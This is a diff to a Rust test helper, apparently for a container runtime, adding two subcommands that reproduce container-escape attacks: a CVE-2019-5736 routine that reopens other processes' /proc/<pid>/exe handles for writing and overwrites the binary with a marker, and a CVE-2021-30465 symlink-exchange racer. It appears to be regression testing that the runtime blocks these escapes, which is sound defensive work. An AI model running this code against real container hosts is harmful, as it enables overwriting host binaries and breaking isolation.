@@ -9,6 +9,13 @@
 //! - `ids`: `uid=R/E/S gid=R/E/S groups=G,G umask=0022`.
 //! - `write PATH TEXT`: writes TEXT to PATH; prints `ok` or `errno=N`.
 //! - `open PATH`: opens PATH read-only; prints `ok` or `errno=N`.
+//! - `exe-attack STOP SECS`: CVE-2019-5736 from inside: keeps opening `/proc/<pid>/exe` of
+//!   every other process (O_PATH) and reopening each handle O_WRONLY through /proc/self/fd,
+//!   until the file STOP exists or SECS pass; a successful open writes `HULL-PWNED` at the
+//!   start of that binary and prints `pwned PATH`, else `safe handles=N {errors}`.
+//! - `swap TARGET STOP PATH...`: CVE-2021-30465's racer: makes each PATH a directory with a
+//!   sibling `PATH~` symlink to TARGET and keeps exchanging the two (renameat2
+//!   RENAME_EXCHANGE) until STOP exists; prints `swaps=N`.
 
 use std::ffi::CString;
 use std::io::Error;
@@ -151,6 +158,108 @@ fn open_path(path: &str, write: Option<&str>) -> Result<String, String> {
     Ok(out)
 }
 
+/// Opens `path` for writing and, if that works, overwrites its first bytes.
+fn try_overwrite(path: &str) -> Result<(), i32> {
+    let p = CString::new(path).map_err(|_| libc::EINVAL)?;
+    // SAFETY: `p` is a valid NUL-terminated path.
+    let fd = unsafe { libc::open(p.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
+    if fd < 0 {
+        return Err(errno());
+    }
+    let m = b"HULL-PWNED";
+    // SAFETY: `m` is a valid buffer of the given length; `fd` is ours and closed once.
+    unsafe {
+        libc::pwrite(fd, m.as_ptr().cast(), m.len(), 0);
+        libc::close(fd);
+    }
+    Ok(())
+}
+
+fn exe_attack(stop: &str, secs: &str) -> Result<String, String> {
+    use std::collections::{BTreeMap, HashSet};
+    use std::os::unix::fs::MetadataExt;
+    let secs: u64 = secs.parse().map_err(|_| format!("not a number: {secs}"))?;
+    // Never attack the container's own binaries (that would only break this container).
+    let own: HashSet<(u64, u64)> = ["/proc/self/exe", "/bin/busybox", "/bin/checker"]
+        .iter()
+        .filter_map(|p| std::fs::metadata(p).ok())
+        .map(|m| (m.dev(), m.ino()))
+        .collect();
+    let me = std::process::id().to_string();
+    let mut held: Vec<i32> = Vec::new();
+    let mut seen = HashSet::new();
+    let mut errs: BTreeMap<String, u32> = BTreeMap::new();
+    let end = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    while std::time::Instant::now() < end && !std::path::Path::new(stop).exists() {
+        let rd = std::fs::read_dir("/proc").map_err(|e| format!("/proc: {e}"))?;
+        for e in rd.flatten() {
+            let name = e.file_name().to_string_lossy().into_owned();
+            if name == me || !name.bytes().all(|b| b.is_ascii_digit()) {
+                continue;
+            }
+            let exe = CString::new(format!("/proc/{name}/exe")).map_err(|e| e.to_string())?;
+            // SAFETY: `exe` is a valid NUL-terminated path.
+            let fd = unsafe { libc::open(exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+            if fd < 0 {
+                *errs.entry(format!("open-exe errno={}", errno())).or_default() += 1;
+                continue;
+            }
+            let key = std::fs::metadata(format!("/proc/self/fd/{fd}"))
+                .map(|m| (m.dev(), m.ino()))
+                .unwrap_or_default();
+            if own.contains(&key) || !seen.insert(key) {
+                // SAFETY: `fd` is ours and closed once.
+                unsafe { libc::close(fd) };
+                continue;
+            }
+            held.push(fd);
+        }
+        for fd in &held {
+            match try_overwrite(&format!("/proc/self/fd/{fd}")) {
+                Ok(()) => {
+                    let t = std::fs::read_link(format!("/proc/self/fd/{fd}")).unwrap_or_default();
+                    return Ok(format!("pwned {}", t.display()));
+                }
+                Err(e) => *errs.entry(format!("reopen errno={e}")).or_default() += 1,
+            }
+        }
+        std::thread::sleep(std::time::Duration::from_micros(300));
+    }
+    Ok(format!("safe handles={} {errs:?}", held.len()))
+}
+
+fn swap(target: &str, stop: &str, paths: &[String]) -> Result<String, String> {
+    for p in paths {
+        let _ = std::fs::create_dir_all(p);
+        let _ = std::os::unix::fs::symlink(target, format!("{p}~"));
+    }
+    let pairs: Vec<(CString, CString)> = paths
+        .iter()
+        .map(|p| (CString::new(p.as_str()), CString::new(format!("{p}~"))))
+        .map(|(a, b)| Ok((a.map_err(|e| e.to_string())?, b.map_err(|e| e.to_string())?)))
+        .collect::<Result<_, String>>()?;
+    let mut n = 0u64;
+    while !std::path::Path::new(stop).exists() {
+        for (a, b) in &pairs {
+            // SAFETY: both are valid NUL-terminated paths; RENAME_EXCHANGE swaps them.
+            let r = unsafe {
+                libc::syscall(
+                    libc::SYS_renameat2,
+                    libc::AT_FDCWD,
+                    a.as_ptr(),
+                    libc::AT_FDCWD,
+                    b.as_ptr(),
+                    libc::RENAME_EXCHANGE,
+                )
+            };
+            if r == 0 {
+                n += 1;
+            }
+        }
+    }
+    Ok(format!("swaps={n}"))
+}
+
 fn main() -> ExitCode {
     let args: Vec<String> = std::env::args().skip(1).collect();
     let r = match args.first().map(String::as_str) {
@@ -160,7 +269,9 @@ fn main() -> ExitCode {
         Some("ids") => Ok(ids()),
         Some("open") if args.len() == 2 => open_path(&args[1], None),
         Some("write") if args.len() == 3 => open_path(&args[1], Some(&args[2])),
-        _ => Err("usage: checker syscall|fds|rlimits|ids|open|write ...".into()),
+        Some("exe-attack") if args.len() == 3 => exe_attack(&args[1], &args[2]),
+        Some("swap") if args.len() >= 4 => swap(&args[1], &args[2], &args[3..]),
+        _ => Err("usage: checker syscall|fds|rlimits|ids|open|write|exe-attack|swap ...".into()),
     };
     match r {
         Ok(s) => {
